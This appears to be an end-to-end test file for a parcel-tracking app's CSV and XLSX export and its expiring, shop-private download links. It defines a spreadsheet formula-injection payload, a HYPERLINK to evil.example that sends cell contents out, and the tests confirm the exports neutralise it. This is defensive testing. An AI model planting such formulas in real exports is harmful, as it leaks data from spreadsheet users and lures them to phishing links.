import { readFileSync } from 'node:fs';
import path from 'node:path';
import { courierByCode } from '@parcelway/couriers';
import { statusInfo, type ShipmentStatus } from '@parcelway/domain';
import { parseCsv } from 'hucre/csv';
import { readXlsx } from 'hucre/xlsx';
import type { Download, Locator, Page } from 'playwright-core';
import { setFaultMode } from './parcels-of-the-day';
import { ordersSuite } from '@parcelway/e2e/orders-suite';
import { DEMO_SHOP, ROOT, SECOND_SHOP, until } from '@parcelway/e2e';

/**
 * A file of a filtered list, as a merchant downloads it: row by row the database's content, and inaccessible to others.
 */
const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Pay here")';
const COLUMNS = [
  'Order',
  'Order date',
  'Parcel number',
  'Courier',
  'Status',
  'Detail',
  'Destination',
  'Transit days',
  'Last event',
  'Time of the last event',
  'Note',
  'Email',
];
/** What the screen calls statuses and their details. */
const WORDS = JSON.parse(readFileSync(path.join(ROOT, 'libs/i18n/src/locales/en.json'), 'utf8')) as {
  status: Record<string, string>;
  substatus: Record<string, string>;
};

const orders = ordersSuite({
  orders: 300,
  async ready(product) {
    const { db } = product;
    await until('the couriers answered for most parcels', async () => {
      const { rows } = await db.query<{ known: number; all: number }>(
        'select (count(*) filter (where status > 1))::int as known, count(*)::int as all from shipments',
      );
      return (rows[0]?.all ?? 0) > 100 && (rows[0]?.known ?? 0) > (rows[0]?.all ?? 0) * 0.7;
    });
    // From now on nothing changes by itself: what is downloaded can be compared with what is there.
    await setFaultMode(product, 'html');
    await db.query('update shipments set next_poll_at = null');
    const { rows } = await db.query<{ id: string }>(
      'select shipment_id as id from shipments where status = 2 order by shipment_id limit 1',
    );
    await product.api('v1/order/note', { method: 'PUT', body: { ids: [rows[0]?.id], note: FORMULA } });
  },
});

/** What the file must hold, as the database has it now; addresses, which are encrypted there, as the store has them. */
async function expected(): Promise<string[][]> {
  const { orders: inStore } = await orders.product.twin<{ orders: { name: string; email: string | null }[] }>(
    `/twin/shops/${DEMO_SHOP}/orders?limit=1000`,
  );
  const emails = new Map(inStore.map(({ name, email }) => [name, email ?? '']));
  const countries = new Intl.DisplayNames(['en'], { type: 'region' });
  const { rows } = await orders.product.db.query<Record<string, string | null>>(
    `select s.order_name, to_char(s.ordered_at at time zone h.timezone, 'YYYY-MM-DD HH24:MI:SS') as ordered_at, s.track_number, s.courier, s.company,
       s.status::text, s.sub_status::text, s.destination, s.note, s.last_event->>'content' as event,
       ((now() at time zone 'UTC')::date - (s.first_scan_at at time zone 'UTC')::date)::text as transit,
       case when not coalesce((s.last_event->>'hasTime')::boolean, true) then left(s.last_event->>'time', 10)
         when not coalesce((s.last_event->>'zoneKnown')::boolean, true) then replace(left(s.last_event->>'time', 19), 'T', ' ')
         else to_char((s.last_event->>'time')::timestamptz at time zone h.timezone, 'YYYY-MM-DD HH24:MI:SS') end as event_at
     from shipments s join shops h using (shop_id) where h.domain = $1 and s.status = 2 and s.removed_at is null
     order by s.ordered_at desc, s.shipment_id desc`,
    [DEMO_SHOP],
  );
  return rows.map((row) =>
    [
      row.order_name,
      row.ordered_at,
      row.track_number,
      courierByCode(row.courier ?? '')?.name ?? row.company,
      WORDS.status[statusInfo(Number(row.status) as ShipmentStatus).key],
      WORDS.substatus[row.sub_status ?? ''],
      row.destination && countries.of(row.destination),
      row.transit,
      row.event,
      row.event_at,
      row.note,
      emails.get(row.order_name ?? ''),
    ].map((cell) => cell ?? ''),
  );
}

/** The file that a press on "Download" brings; its link opens a tab of its own. */
function download(page: Page): Promise<Download> {
  return new Promise((resolve) => {
    page.once('download', resolve);
    page.context().once('page', (tab) => tab.once('download', resolve));
    void page.getByRole('link', { name: 'Download' }).click();
  });
}

/** Exports the parcels in transit with these columns, and downloads the file. */
async function exported(
  type: 'CSV' | 'Excel (XLSX)',
  chooseColumns: (dialog: Locator) => Promise<unknown>,
): Promise<{ name: string; file: Buffer }> {
  const { page } = orders;
  await orders.open('/orders?status=2');
  await page.getByRole('row').nth(1).waitFor({ timeout: 30_000 });
  await page.getByRole('button', { name: 'Export', exact: true }).click();
  const dialog = orders.dialog('Export');
  await dialog.getByText(type, { exact: true }).click();
  await chooseColumns(dialog);
  await dialog.getByRole('button', { name: 'Start export' }).click();
  await dialog.getByText('The export is ready').waitFor({ timeout: 30_000 });
  const file = await download(page);
  await dialog.getByRole('button', { name: 'Close' }).last().click();
  return { name: file.suggestedFilename(), file: readFileSync(await file.path()) };
}

let csv: ReturnType<typeof exported> | undefined;
/** The file with notes and addresses; the selection of its columns is saved by it. Made once. */
const csvWithNotes = () =>
  (csv ??= exported('CSV', async (dialog) => {
    for (const column of ['Note', 'Email']) await dialog.getByRole('checkbox', { name: column, exact: true }).check();
    await dialog.getByRole('textbox', { name: 'Save this selection as' }).fill('With notes');
  }));

test('[1.5, 3.35, 7.34, 7.35] the filtered list as CSV, downloaded: row by row what the database holds; a note that is a formula runs nowhere', async () => {
  const { name, file } = await csvWithNotes();
  expect(name).toMatch(/^shipments-\d{4}-\d\d-\d\d-\d+\.csv$/);
  const [head, ...lines] = parseCsv(file.toString('utf8').replace(/^\uFEFF/, '')).map((line) => line.map(String));
  expect(head).toEqual(COLUMNS);
  const rows = await expected();
  expect(rows.length).toBeGreaterThan(5);
  const note = COLUMNS.indexOf('Note');
  expect(lines.map((line) => line[note]).filter(Boolean)).toEqual([`'${FORMULA}`]);
  expect(lines.map((line) => line.map((cell, at) => (at === note ? cell.replace(/^'=/, '=') : cell)))).toEqual(rows);
});

test('[1.5, 7.34, 7.35] the same as XLSX with the columns that were saved: the same rows, numbers as numbers and texts as texts, the formula among them', async () => {
  await csvWithNotes();
  const { name, file } = await exported('Excel (XLSX)', (dialog) =>
    dialog.getByRole('combobox', { name: 'Selection of columns' }).selectOption('With notes'),
  );
  expect(name).toMatch(/\.xlsx$/);
  const { sheets } = await readXlsx(file);
  const [head, ...lines] = sheets[0]?.rows ?? [];
  expect(head).toEqual(COLUMNS);
  expect(lines.map((line) => COLUMNS.map((_, at) => String(line[at] ?? '')))).toEqual(await expected());
  const types = (column: string) =>
    new Set(
      lines
        .map((line) => line[COLUMNS.indexOf(column)] ?? null)
        .filter((cell) => cell !== null)
        .map((cell) => typeof cell),
    );
  expect([types('Transit days'), types('Parcel number')]).toEqual([new Set(['number']), new Set(['string'])]);
  // Only cells that are more than their value are listed here, such as a formula.
  expect(sheets[0]?.cells?.size ?? 0).toBe(0);
});

describe('the link of a file', () => {
  beforeEach(csvWithNotes);

  interface Run {
    id: string;
    url: string | null;
  }
  const list = async (shop?: string) =>
    (await orders.product.api<{ exports: Run[] }>('v1/export/list', { ...(shop && { shop }) })).body.data.exports;
  const state = (id: string, shop?: string) => orders.product.api(`v1/export/${id}`, { ...(shop && { shop }) });
  const latest = async (): Promise<Run & { url: string }> => {
    const [run] = await list();
    return { id: run?.id ?? '', url: run?.url ?? '' };
  };

  test('is announced to nobody else: not to another shop, not to another user of this one; and with another key it opens nothing', async () => {
    const { id, url } = await latest();
    expect((await fetch(url)).status).toBe(200);
    await orders.product.api('v1/auth/session', { shop: SECOND_SHOP });
    expect([(await state(id, SECOND_SHOP)).status, await list(SECOND_SHOP)]).toEqual([404, []]);

    const { db } = orders.product;
    const { rows } = await db.query<{ user_id: string }>('select user_id from exports where export_id = $1', [id]);
    await db.query("update exports set user_id = '1' where export_id = $1", [id]);
    expect([(await state(id)).status, (await list()).some((run) => run.id === id)]).toEqual([404, false]);
    await db.query('update exports set user_id = $2 where export_id = $1', [id, rows[0]?.user_id]);

    const last = url.at(-2);
    expect((await fetch(`${url.slice(0, -2)}${last === 'A' ? 'B' : 'A'}${url.slice(-1)}`)).status).toBe(404);
  });

  test('ends after 24 hours: it answers so, and the screen offers it no more', async () => {
    const { url } = await latest();
    // A file that was downloaded is not offered on the screen.
    await orders.product.db.query('update exports set fetched_at = null');
    await orders.open('/orders');
    await orders.page.getByRole('link', { name: 'Download' }).waitFor({ timeout: 30_000 });
    const { rows } = await orders.product.db.query<{ hours: number }>(
      `update exports set expires_at = expires_at - interval '24 hours'
       returning round(extract(epoch from expires_at - created_at))::int / 3600 as hours`,
    );
    expect(new Set(rows.map(({ hours }) => hours))).toEqual(new Set([0]));
    const answer = await fetch(url);
    expect([answer.status, await answer.text()]).toEqual([
      410,
      expect.stringContaining('files are kept for 24 hours. Open Orders and export again.'),
    ]);
    expect((await latest()).url).toBe('');
    await orders.open('/orders');
    await orders.page.getByRole('row').nth(1).waitFor();
    await orders.page.waitForLoadState('networkidle');
    expect(await orders.page.getByRole('link', { name: 'Download' }).count()).toBe(0);
  });
});
